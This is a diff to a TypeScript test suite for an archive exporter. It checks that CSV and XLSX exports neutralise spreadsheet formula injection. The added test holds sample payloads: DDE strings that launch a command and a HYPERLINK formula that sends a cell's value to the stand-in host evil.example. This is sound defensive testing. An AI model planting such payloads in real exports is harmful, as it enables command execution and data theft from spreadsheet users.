@@ -1,7 +1,7 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { Workbook, type Worksheet } from 'exceljs';
+import { ValueType, Workbook, type Worksheet } from 'exceljs';
 import type { DataSource, EntityManager } from 'typeorm';
 import {
   CSV_COLUMNS,
@@ -394,16 +394,66 @@ describe('exporting the archive', () => {
           ],
         });
         const csv = await signaturesCsv(em, { forum: 'Human Rights Council, 42nd session' });
-        const tail = `,"'=HYPERLINK(""http://example.org"",""a test"")",JOINT_STATEMENT,,2,,'@risk; -1+1; plain,\r\n`;
+        const tail = `,"'=HYPERLINK(""http://example.org"",""a test"")",JOINT_STATEMENT,,2,,"'@risk; -1+1; plain",\r\n`;
         expect(csv).toBe(
           `${header}\r\n` +
             `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",FRA,France,France,SIGNED,,${tail}` +
             `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",TUR,${(await em.query(`SELECT name FROM signatory WHERE iso3 = 'TUR'`))[0].name},Türkiye,SIGNED,2019,${tail}`,
         );
-        // The workbook keeps the exact text, as text: a cell value, never a formula.
+        // The workbook's cell is text, with the same apostrophe: never a formula, also once edited or saved as CSV.
         const workbook = await readWorkbook(await toXlsx([spreadsheetTables(await spreadsheetRows(em, { forum: 'Human Rights Council, 42nd session' })).statements]));
-        expect(workbook.getWorksheet('statements')!.getCell('B2').value).toBe('=HYPERLINK("http://example.org","a test")');
-        expect(workbook.getWorksheet('statements')!.getCell('B2').type).toBe(3); // ValueType.String
+        expect(workbook.getWorksheet('statements')!.getCell('B2').value).toBe(`'=HYPERLINK("http://example.org","a test")`);
+        expect(workbook.getWorksheet('statements')!.getCell('B2').type).toBe(ValueType.String);
+      });
+    });
+
+    it('makes every cell a spreadsheet would run inert, in CSV and XLSX alike, and keeps counts as numbers (OWASP)', async () => {
+      const payloads = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3', '\t=1', '\r=1'];
+      await rolledBack(sample, async (em) => {
+        await importBundle(em, {
+          format: 'jointly-bundle/1',
+          signatories: payloads.map((name, i) => ({ key: `formula-${i}`, kind: 'ORGANIZATION' as const, name })),
+          statements: payloads.map((title, i) => ({
+            key: `formula-${i}`,
+            kind: 'JOINT_STATEMENT' as const,
+            title,
+            date: '2031',
+            forum: 'Formula forum',
+            signatures: [{ signatory: `formula-${i}` }],
+          })),
+        });
+        const rows = await spreadsheetRows(em, { forum: 'Formula forum' });
+        const { statements, signatures } = spreadsheetTables(rows);
+        const titleColumn = CSV_COLUMNS.indexOf('statement_title');
+        const nameColumn = CSV_COLUMNS.indexOf('signatory_name');
+        const listedColumn = CSV_COLUMNS.indexOf('listed_signatory_count');
+
+        const csv = toCsv(signatures);
+        const records = parseCsv(csv).slice(1);
+        expect(records).toHaveLength(payloads.length);
+        const titles = records.map((r) => r[titleColumn]);
+        expect(new Set(titles)).toEqual(new Set(payloads.map((p) => `'${p}`)));
+        expect(new Set(records.map((r) => r[nameColumn]))).toEqual(new Set(payloads.map((p) => `'${p}`)));
+        // Each such field is quoted too: no line of the file has a bare field starting a formula.
+        for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+        expect(records.every((r) => r[listedColumn] === '1')).toBe(true);
+
+        const workbook = await readWorkbook(await toXlsx([statements, signatures]));
+        const sheet = workbook.getWorksheet('signatures')!;
+        const sheetTitles: unknown[] = [];
+        for (let row = 2; row <= payloads.length + 1; row++) {
+          for (const column of [titleColumn, nameColumn]) {
+            const cell = sheet.getRow(row).getCell(column + 1);
+            expect(cell.type).toBe(ValueType.String);
+            expect(String(cell.value).startsWith("'")).toBe(true);
+          }
+          sheetTitles.push(sheet.getRow(row).getCell(titleColumn + 1).value);
+          const listed = sheet.getRow(row).getCell(listedColumn + 1);
+          expect(listed.type).toBe(ValueType.Number);
+          expect(listed.value).toBe(1);
+        }
+        // XML reads a carriage return back as a line feed: the apostrophe before it is what matters.
+        expect(new Set(sheetTitles)).toEqual(new Set(payloads.map((p) => `'${p}`.replace('\r', '\n'))));
       });
     });
   });
